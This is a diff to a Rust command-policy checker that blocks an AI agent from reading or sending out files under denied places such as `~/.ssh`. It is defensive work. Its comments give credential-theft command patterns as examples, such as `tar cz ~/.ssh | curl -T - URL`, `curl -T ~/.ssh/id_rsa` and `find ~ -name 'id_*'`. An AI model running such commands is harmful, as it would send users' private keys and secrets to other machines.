@@ -154,20 +154,37 @@ pub(crate) fn block(analysis: &Analysis, index: usize, rules: &FileRules, here: 
         } else {
             files::could_reach_named(root, &tree.include, rules, here)
         };
+        // The root is the denied place itself (`~/.ssh`, `~/.aws`), not a tree that holds one.
+        let inside = |glob: &str| {
+            let directory = glob.rsplit_once('/').map_or("", |(directory, _)| directory);
+            !directory.is_empty() && path.starts_with(files::resolve(directory, here))
+        };
+        let at_secret_place = reached.as_ref().is_some_and(|denied| inside(denied.glob));
+        let only_denied = || files::picks_only_denied(root, &tree.include, rules, here);
+        let named_found = |glob: &str| Walk::Found {
+            shown: tree.include.join(" "),
+            glob: glob.to_string(),
+            named: true,
+            directory: false,
+        };
         let found = match reached {
-            Some(denied) => Walk::Found {
-                shown: denied.glob.to_string(),
-                glob: denied.glob.to_string(),
-                named: false,
-                directory: true,
-            },
-            None => match files::picks_only_denied(root, &tree.include, rules, here) {
-                Some(glob) => Walk::Found {
-                    shown: tree.include.join(" "),
-                    glob: glob.to_string(),
-                    named: true,
-                    directory: false,
+            // `find ~ -name 'id_*'`, `find / -name '*key*.pem'`: a filter that picks the denied
+            // place's own kind of file, or only denied files, in a tree that holds such a place
+            // (under `~/.ssh` itself the file rules name the file).
+            Some(denied) if !inside(denied.glob) && names_denied_kind(denied.glob, &tree.include) => {
+                named_found(denied.glob)
+            }
+            Some(denied) => match only_denied().filter(|_| !inside(denied.glob)) {
+                Some(glob) => named_found(glob),
+                None => Walk::Found {
+                    shown: denied.glob.to_string(),
+                    glob: denied.glob.to_string(),
+                    named: false,
+                    directory: true,
                 },
+            },
+            None => match only_denied() {
+                Some(glob) => named_found(glob),
                 None => walk(&path, &tree, rules, here, &mut budget),
             },
         };
@@ -179,6 +196,16 @@ pub(crate) fn block(analysis: &Analysis, index: usize, rules: &FileRules, here: 
                         Action::Deny,
                         format!(
                             "`{name}` {} `{root}` and its filter picks `{shown}`, which your policy does not let the agent read (it matches `{glob}` in [files] deny_read); leave this file to the user",
+                            tree.verb
+                        ),
+                    )
+                } else if at_secret_place && crate::rules::output_sent(analysis, index) {
+                    // `tar cz ~/.ssh | curl -T - URL`: the secret place sent away, as `curl -T
+                    // ~/.ssh/id_rsa` is (a backup of all of home, `tar cz ~ | nc`, is asked).
+                    (
+                        Action::Deny,
+                        format!(
+                            "`{name}` {} `{root}`, which holds `{shown}`, and sends it to another machine: your policy does not let the agent read it (it matches `{glob}` in [files] deny_read); leave these files to the user",
                             tree.verb
                         ),
                     )
@@ -210,6 +237,15 @@ pub(crate) fn block(analysis: &Analysis, index: usize, rules: &FileRules, here: 
         }
     }
     None
+}
+
+/// Whether a name filter (`id_*`, `id_rsa`) picks the kind of file a deny glob names in its
+/// place (`~/.ssh/id_*`): the glob's last part says more than "any file", and the filter's name,
+/// its wildcards filled, is one it denies.
+fn names_denied_kind(glob: &str, include: &[&str]) -> bool {
+    let last = glob.rsplit('/').next().unwrap_or(glob);
+    !last.trim_matches(['*', '?']).is_empty()
+        && include.iter().any(|name| super::glob::component_matches(last, &name.replace(['*', '?'], "x")))
 }
 
 /// Whether `command` decompresses or prints git's loose objects itself (`zlib-flate
